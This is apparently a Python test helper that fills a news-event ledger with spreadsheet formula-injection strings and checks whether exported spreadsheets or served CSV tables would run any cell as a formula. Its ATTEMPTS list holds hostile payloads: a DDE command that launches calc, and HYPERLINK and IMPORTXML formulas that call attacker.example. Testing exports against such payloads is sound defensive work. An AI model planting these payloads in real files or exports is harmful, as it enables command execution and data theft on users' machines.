"""What a spreadsheet may take for a formula, in every place of a ledger where words of strangers stand; and how to tell that it did."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from datetime import date
from typing import Any

import openpyxl
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from dragoman.nouns.ledger import (
    Attribution,
    Event,
    Evidence,
    Field,
    FieldValue,
    Ledger,
    Party,
    Quotation,
    Source,
    StatusStep,
    Story,
    Telling,
    When,
)
from dragoman.nouns.text import Document, Span
from dragoman.publish.tables.told import Told
from dragoman.relate import calendar, register

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "  ", "\u00a0", "\u3000", "\t", "\n", "\v", "\u2003", "\ufeff")
FORMULAS = tuple(f"{before}{sign}SUM(1+{n})" for n, (before, sign) in enumerate((b, s) for b in BEFORE for s in BEGINNINGS))
ATTEMPTS = (
    *FORMULAS, "=cmd|' /C calc'!A0", "=HYPERLINK(\"//attacker.example\",\"x\")", "=IMPORTXML(\"//attacker.example\",\"//a\")",
    "\"=1+1", "'=1+1", "=1+1\";=2+2", "x,=1+1", "x\r\n=1+1", "x\t=1+1", "x;=1+1", "-1", "+1", "1e5", "=1\x00",
)  # fmt: skip
# What a spreadsheet may take for a formula: one of the signs, after whatever it may pass over; a plain number is none.
RUNS = re.compile(r"[\s\ufeff\x00]*[=+\-@＝＋－＠]")
NOT_IN_XML = re.compile(r"[\ufffe\uffff]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
DAY = "2031-03-04"


def hostile() -> Ledger:
    """Return a ledger of a report, an event and a quote for each attempt, which stands in every place of theirs that holds words."""
    sources, events, quotes = [], [], []
    for n, attempt in enumerate(ATTEMPTS):
        text = f"{attempt} met."
        document = Document(f"d{n:03d}", attempt, text, attempt, date(2031, 3, 4), attempt, attempt, attempt[:8])
        head = Span(0, len(attempt))
        here = (Evidence(document.id, head),)
        party = Party(attempt, f"person:{attempt}", "FRA")
        fields = tuple(Field(name, (FieldValue(attempt, (document.id,), here),)) for name in ("actor", "object", "topic", "money", attempt))
        events.append(
            Event(
                f"e{n:016x}",
                ("CONSULT", "AGREE", "SANCTION")[n % 3],
                (),
                ("occurred", "scheduled")[n % 2],
                attempt,
                (party,),
                (Party(attempt, "state:ITA", "ITA"),),
                (Party(attempt),),
                (party,),
                When(DAY, DAY, DAY),
                (Telling(document.id, head, Span(0, len(text)), "occurred", 0.9, f"e{n:016x}"),),
                1,
                fields,
                (StatusStep(DAY, "occurred", (document.id,)),),
                (Attribution(attempt, (document.id,)),),
            )
        )
        sources.append(Source(document, attempt))
        quotes.append(Quotation(attempt, party, Party(attempt), here))
    story = Story("s1", ATTEMPTS[0], tuple(s.document.id for s in sources), tuple(e.id for e in events))
    return Ledger(tuple(sources), (story,), tuple(events), tuple(quotes))


LEDGER = hostile()
TOLD = Told(LEDGER, register(LEDGER.events), calendar(LEDGER.events, None, settled=True), {})


def formulas(rows: Iterable[list[str]]) -> list[Any]:
    """Return the cells that a spreadsheet would run: by what openpyxl takes them for, and by how they begin."""
    sheet = openpyxl.Workbook().active
    rows = list(rows)
    for row in rows:
        sheet.append([NOT_IN_XML.sub("", ILLEGAL_CHARACTERS_RE.sub("", cell)) for cell in row])
    book = io.BytesIO()
    sheet.parent.save(book)
    again = openpyxl.load_workbook(io.BytesIO(book.getvalue())).active
    by_type = [cell.value for row in again.iter_rows() for cell in row if cell.data_type == "f"]
    return by_type + [cell for row in rows for cell in row if RUNS.match(cell) and not NUMBER.fullmatch(cell)]


def of_csv(text: str) -> list[list[str]]:
    """Return the rows of a CSV."""
    return list(csv.reader(io.StringIO(text, newline="")))


def served_tables(ask: Any) -> Iterator[tuple[str, str]]:
    """Yield each address of a server that answers with a table, and the table.

    The addresses are found by what they say of themselves, so that a new one is tried too.
    """
    needed = {"/api/v1/relations": {"a": "FRA", "b": "ITA"}}
    for path, methods in ask.get("/api/v1/openapi.json").json()["paths"].items():
        described = {p["name"]: p for p in methods.get("get", {}).get("parameters", [])}
        if "csv" not in described.get("format", {}).get("schema", {}).get("enum", ()):
            continue
        answer = ask.get(path, params={"format": "csv", **needed.get(path, {})})
        assert answer.status_code == 200, (path, answer.text)
        yield path, answer.content.decode()
